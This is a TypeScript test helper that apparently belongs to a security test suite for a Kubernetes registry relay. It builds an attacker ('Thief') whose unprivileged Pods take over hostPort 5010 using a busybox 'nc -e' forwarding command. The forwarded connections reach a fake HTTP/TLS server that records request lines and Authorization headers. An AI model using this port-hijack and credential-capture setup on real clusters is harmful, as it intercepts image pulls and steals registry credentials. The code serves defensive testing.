import { createServer as createHttpServer } from 'node:http';
import { once } from 'node:events';
import { connect, createServer, type AddressInfo, type Server, type Socket } from 'node:net';
import { createServer as createTlsServer } from 'node:tls';
import { createTestPki } from '../kit/index.ts';
import type { Cluster } from '../cluster/start-cluster.ts';

/** Attacker who wants to be the registry of a node. Its Pods request the port of the relay, and need no rights. */
export interface Thief extends AsyncDisposable {
  /** Creates or changes its Pods. They may stay pending. */
  want(pods: { readonly count: number; readonly priorityClassName?: string }): Promise<void>;
  /** Counts its running Pods, which have the port. */
  running(): Promise<number>;
  /** Counts its Pods that were scheduled so far. */
  scheduled(): Promise<number>;
  /** Deletes all of its Pods. */
  giveUp(): Promise<void>;
  /** Listens at the port as a program of the node does. */
  listenOnNode(port: number): Promise<Disposable>;
  /** Address at which the node reaches the thief's server. */
  readonly address: string;
  /** Number of connections since the last `forget`. {@link Thief.requests} has the requests that the thief could read. */
  readonly connections: () => number;
  readonly requests: () => readonly string[];
  forget(): void;
}

const PORT = 7777;
const TLS_HANDSHAKE = 0x16;
/** Time that an evicted Pod takes to end. */
const GRACE_SECONDS = 3;

/**
 * Starts the thief's server in the test. Its Pods carry each connection there. The server speaks plain HTTP, and TLS with a certificate of
 * its own for containerd's address. It requires a login, and then answers every request with 200.
 */
export async function startThief(cluster: Cluster): Promise<Thief> {
  let connections = 0;
  let requests: string[] = [];
  const http = createHttpServer((request, response) => {
    const { authorization } = request.headers;
    requests.push(`${request.method} ${request.url} ${authorization ?? ''}`);
    if (authorization === undefined)
      response.writeHead(401, { 'www-authenticate': 'Basic realm="thief"' }).end();
    else response.end('{}');
  });
  const { key, cert } = createTestPki(['127.0.0.1']).server();
  const tls = createTlsServer({ key, cert }, (socket) => http.emit('connection', socket));
  tls.on('tlsClientError', () => {});
  const [plainPort, tlsPort] = await Promise.all([http, tls].map(portOf));
  const take = (socket: Socket): void => {
    connections += 1;
    socket.on('error', () => {});
    socket.once('data', (first) => {
      const inner = connect(first[0] === TLS_HANDSHAKE ? tlsPort! : plainPort!, '127.0.0.1');
      inner.on('error', () => socket.destroy());
      inner.write(first);
      socket.pipe(inner).pipe(socket);
    });
  };
  const listen = async (address: string, port: number): Promise<Server> => {
    const server = createServer(take);
    await cluster.listen(server, { address, port });
    return server;
  };
  const behindPods = await listen(cluster.nodeAddress, PORT);
  const { kubectl } = cluster;
  const giveUp = async (): Promise<void> => {
    await kubectl('delete', 'deployment', NAME, '--ignore-not-found', '--cascade=foreground');
    await kubectl('delete', 'pods', SELECTOR, '--grace-period=0', '--force');
  };

  return {
    async want({ count, priorityClassName }) {
      await kubectl.apply(deployment(cluster, count, priorityClassName));
    },
    async running() {
      const { items } = await kubectl.json<{ items: readonly { status: { phase: string } }[] }>(
        'pods',
        SELECTOR,
      );
      return items.filter(({ status }) => status.phase === 'Running').length;
    },
    async scheduled() {
      const { items } = await kubectl.json<{ items: readonly { involvedObject: { name: string } }[] }>(
        'events',
        '--field-selector=reason=Scheduled,involvedObject.kind=Pod',
      );
      return items.filter(({ involvedObject }) => involvedObject.name.startsWith(`${NAME}-`)).length;
    },
    giveUp,
    async listenOnNode(port) {
      const server = await listen('127.0.0.1', port);
      return { [Symbol.dispose]: () => void server.close() };
    },
    address: `${cluster.nodeAddress}:${PORT}`,
    connections: () => connections,
    requests: () => requests,
    forget() {
      connections = 0;
      requests = [];
    },
    async [Symbol.asyncDispose]() {
      await giveUp();
      for (const server of [behindPods, http, tls]) server.close();
    },
  };
}

/** Lets a server listen on loopback, and returns its port. */
async function portOf(server: Server): Promise<number> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return (server.address() as AddressInfo).port;
}

const NAME = 'thief';
const SELECTOR = `--selector=app=${NAME}`;

function deployment(cluster: Cluster, replicas: number, priorityClassName: string | undefined): object {
  const carry = [
    '/bin/busybox',
    'nc',
    '-ll',
    '-p',
    '5010',
    '-e',
    '/bin/busybox',
    'nc',
    cluster.nodeAddress,
    String(PORT),
  ];
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: NAME, namespace: 'default' },
    spec: {
      replicas,
      selector: { matchLabels: { app: NAME } },
      template: {
        metadata: { labels: { app: NAME } },
        spec: {
          terminationGracePeriodSeconds: GRACE_SECONDS,
          ...(priorityClassName !== undefined && { priorityClassName }),
          securityContext: { runAsNonRoot: true, runAsUser: 65532 },
          containers: [
            {
              name: NAME,
              image: cluster.shellImage,
              command: carry,
              ports: [{ containerPort: 5010, hostPort: 5010 }],
              securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
            },
          ],
        },
      },
    },
  };
}
